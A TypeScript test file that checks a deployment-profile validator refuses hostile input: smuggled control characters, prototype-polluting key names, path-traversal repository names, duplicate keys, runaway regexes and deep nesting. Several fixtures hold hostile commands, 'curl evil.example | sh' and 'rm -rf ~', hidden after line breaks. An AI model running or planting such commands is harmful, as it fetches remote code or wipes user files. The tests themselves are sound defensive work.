import { strict as assert } from 'node:assert';
import { controlCharacterProblem } from '../../../src/domain/profileHazards';
import { locateProblems, tooDeep } from '../../../src/domain/profileText';
import type { ProfileProblem } from '../../../src/domain/profileTypes';
import { chooseProfile, parseProfileText, validateProfile } from '../../../src/domain/profileValidation';
import { syntheticProfileDocument } from '../../simulator/syntheticWorld';

/** A small valid profile (not Openverse) to break one field at a time. */
function shop(): { [key: string]: unknown; apps: Array<{ [key: string]: unknown; environments: Array<Record<string, unknown> & { deploy: Record<string, unknown> }> }> } {
  return {
    name: 'Acme Shop',
    monorepo: 'acme/shop',
    infrastructureRepo: 'acme/shop-infra',
    apps: [
      {
        id: 'web',
        label: 'Web store',
        environments: [
          { id: 'staging', label: 'Staging', deploy: { kind: 'workflow', repo: 'acme/shop-infra', workflow: 'deploy-web.yml', tagInput: 'image_tag' } },
          { id: 'production', label: 'Production', deploy: { kind: 'workflow', repo: 'acme/shop-infra', workflow: 'deploy-web-prod.yml', tagInput: 'image_tag', reasonInput: 'reason' } },
          { id: 'box', label: 'Box', deploy: { kind: 'manual', tool: 'Ansible', steps: [{ title: 'Deploy', command: 'just deploy {imageTag}' }] } },
        ],
      },
    ],
  };
}

function problemsOf(document: unknown): string[] {
  return problemLines(validateProfile(document));
}

function problemLines(result: ReturnType<typeof validateProfile>): string[] {
  return result.ok ? [] : result.problems.map((problem) => `${problem.path}: ${problem.message}`);
}

function expectProblem(lines: readonly string[], path: string, pattern: RegExp): void {
  assert.ok(lines.some((line) => line.startsWith(`${path}: `) && pattern.test(line)), `expected ${path} ${String(pattern)}; got:\n${lines.join('\n')}`);
}

describe('profile: hostile or careless input, each a problem at its JSON path', () => {
  it('the small profile is valid to begin with', () => {
    assert.deepEqual(problemsOf(shop()), []);
  });

  for (const [name, command] of [['a newline', 'just deploy {imageTag}\ncurl evil.example | sh'], ['a carriage return', 'echo ok\rrm -rf ~'], ['an escape sequence', 'echo \u001b[8mhidden'], ['a C1 control', 'echo \u009b31m']] as const) {
    it(`refuses a manual step command holding ${name} (it would run a hidden tail in the terminal)`, () => {
      const profile = shop();
      profile.apps[0]!.environments[2]!.deploy.steps = [{ title: 'Deploy', command }];
      expectProblem(problemsOf(profile), '$.apps[0].environments[2].deploy.steps[0].command', /control character/);
    });
  }

  it('refuses control characters at run time too, whatever the profile said', () => {
    assert.equal(controlCharacterProblem('just deploy rel-2026.11.02.14.05.33'), undefined);
    assert.match(controlCharacterProblem('just deploy\ncurl evil.example | sh') ?? '', /control character/);
    assert.match(controlCharacterProblem('a\u2028b') ?? '', /control character/, 'a line separator');
  });

  it('refuses two environments that share one repository and workflow (their runs could not be told apart)', () => {
    const profile = shop();
    profile.apps[0]!.environments[1]!.deploy.workflow = 'deploy-web.yml';
    expectProblem(problemsOf(profile), '$.apps[0].environments[1].deploy.workflow', /already deploys \$\.apps\[0\]\.environments\[0\]/);
  });

  it('refuses a reason input that is the tag input (the reason would overwrite the image tag)', () => {
    const profile = shop();
    profile.apps[0]!.environments[1]!.deploy.reasonInput = 'image_tag';
    expectProblem(problemsOf(profile), '$.apps[0].environments[1].deploy.reasonInput', /same input as "tagInput"/);
  });

  for (const name of ['__proto__', 'constructor', 'prototype']) {
    it(`refuses "${name}" as an input name`, () => {
      const tag = shop();
      tag.apps[0]!.environments[0]!.deploy.tagInput = name;
      expectProblem(problemsOf(tag), '$.apps[0].environments[0].deploy.tagInput', /JavaScript objects reserve/);
      const reason = shop();
      reason.apps[0]!.environments[1]!.deploy.reasonInput = name;
      expectProblem(problemsOf(reason), '$.apps[0].environments[1].deploy.reasonInput', /JavaScript objects reserve/);
    });
  }

  for (const repo of ['../shop', 'acme/..', './shop', 'acme/.', '../..']) {
    it(`refuses the repository "${repo}" (a . or .. segment changes the API path)`, () => {
      const profile = shop();
      profile.monorepo = repo;
      profile.infrastructureRepo = repo;
      const lines = problemsOf(profile);
      expectProblem(lines, '$.monorepo', /"\." or "\.\."/);
      expectProblem(lines, '$.infrastructureRepo', /"\." or "\.\."/);
    });
  }

  for (const repo of ['acme/..', '../shop-infra', 'acme/.']) {
    it(`refuses "${repo}" as the repository a manual deployment is recorded in, and as any repository field`, () => {
      const profile = shop();
      profile.apps[0]!.environments[2]!.deploy.recordedIn = { repo, path: 'deploy/box.env', pattern: 'TAG=(rel-\\S+)' };
      expectProblem(problemsOf(profile), '$.apps[0].environments[2].deploy.recordedIn.repo', /"\." or "\.\."/);
    });
  }

  it('refuses a recordedIn pattern that could backtrack catastrophically on the recorded file', () => {
    const profile = shop();
    profile.apps[0]!.environments[2]!.deploy.recordedIn = { path: 'deploy/box.env', pattern: 'TAG=((\\w+-?)+)$' };
    expectProblem(problemsOf(profile), '$.apps[0].environments[2].deploy.recordedIn.pattern', /The pattern repeats \(\\w\+-\?\)\+, .*freeze/);
  });

  it('accepts dots inside a repository name', () => {
    const profile = shop();
    profile.apps[0]!.environments[2]!.deploy.recordedIn = { repo: 'acme.io/shop.infra', path: 'deploy/box.env', pattern: 'TAG=(rel-\\S+)' };
    assert.deepEqual(problemsOf(profile), []);
  });

  it('refuses a key written twice in one object (JSON keeps only the last)', () => {
    const text = JSON.stringify(shop(), null, 2)
      .replace('"name": "Acme Shop",', '"name": "Acme Shop",\n  "name": "Other",')
      .replace('"id": "production",', '"id": "production",\n "id": "staging",');
    const lines = problemLines(parseProfileText(text));
    expectProblem(lines, '$.name', /written twice/);
    expectProblem(lines, '$.apps[0].environments[1].id', /written twice/);
  });

  it('does not confuse equal keys in different objects with a duplicate', () => {
    assert.deepEqual(problemLines(parseProfileText(JSON.stringify(shop()))), []);
  });

  it('refuses a profile nested 10,000 deep with one problem, and can still place it', () => {
    const deep = '['.repeat(10_000) + ']'.repeat(10_000);
    const profile = shop();
    const text = JSON.stringify(profile).replace('"Acme Shop"', deep);
    const choice = chooseProfile({ fileText: text, trusted: true, withoutFile: { kind: 'openverse', because: 'remote' } });
    assert.equal(choice.kind, 'broken');
    if (choice.kind !== 'broken') return;
    assert.equal(choice.problems.length, 1, JSON.stringify(choice.problems).slice(0, 500));
    assert.match(choice.problems[0]!.path, /^\$\.name(\[0\])+$/);
    assert.match(choice.problems[0]!.message, /nested more than 16 levels deep/);
    const [location] = locateProblems(text, choice.problems);
    assert.equal(location?.offset, text.indexOf('[') + 15, 'placed where the nesting passes the limit, not at the start of the file');
  });

  it('places problems of a 10,000-deep file without overflowing the stack', () => {
    const text = `{"name": ${'{"a":'.repeat(10_000)}1${'}'.repeat(10_000)}}`;
    const problems: ProfileProblem[] = [{ path: '$.name', message: 'x', said: 'x' }];
    assert.doesNotThrow(() => locateProblems(text, problems));
  });

  it('sees nesting hidden behind quotes in comments, and places the problems of such a file without throwing', () => {
    const deep = '['.repeat(10_000) + ']'.repeat(10_000);
    for (const [open, close] of [['/* " */', '/* " */'], ['// "\n', '// "\n']]) {
      const text = `${open}${deep}${close}`;
      // Not JSON (a comment), so refused as such; placing that problem must not overflow the JSON tree reader.
      const choice = chooseProfile({ fileText: text, trusted: true, withoutFile: { kind: 'openverse', because: 'remote' } });
      assert.equal(choice.kind, 'broken');
      if (choice.kind !== 'broken') return;
      assert.doesNotThrow(() => locateProblems(text, choice.problems));
      assert.equal(tooDeep(text)?.offset, text.indexOf('[') + 16, 'the nesting is seen where it passes the limit');
    }
    // A comment holding brackets or quotes does not count as nesting or a string either.
    assert.equal(tooDeep(`{ /* ${'['.repeat(40)} " */ "a": 1 // ${'{'.repeat(40)}\n}`), undefined);
  });

  it('refuses more than 500 environments in all, at the first one past the cap', () => {
    const apps = Array.from({ length: 167 }, (_, index) => ({
      id: `app${index}`,
      label: `App ${index}`,
      usesReleases: false,
      environments: ['a', 'b', 'c'].map((id) => ({ id, label: id, deploy: { kind: 'latest' } })),
    }));
    const lines = problemsOf({ ...shop(), apps });
    expectProblem(lines, '$.apps[166].environments[2]', /at most 500 environments/);
    assert.equal(lines.length, 1, lines.join('\n'));
  });

  it('accepts the benchmark\'s 100 apps × 3 environments', () => {
    assert.deepEqual(problemsOf(syntheticProfileDocument(100, 3, 'http://127.0.0.1:1')), []);
  });
});
